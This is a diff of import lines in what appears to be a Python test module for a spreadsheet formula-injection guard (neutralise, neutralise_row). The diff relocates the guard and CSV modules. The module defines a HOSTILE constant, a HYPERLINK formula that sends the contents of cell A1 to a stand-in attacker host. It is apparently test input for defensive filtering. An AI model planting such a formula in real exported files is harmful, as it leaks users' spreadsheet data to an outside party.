@@ -10,9 +10,9 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
+from pvd.formats import csv_fr
+from pvd.formats.formula_guard import neutralise, neutralise_row
 from pvd.projects import services
-from pvd.web import csv_fr
-from pvd.web.formula_guard import neutralise, neutralise_row
 
 BASE = "/projets/pvd/pvd-75-23-1/"
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
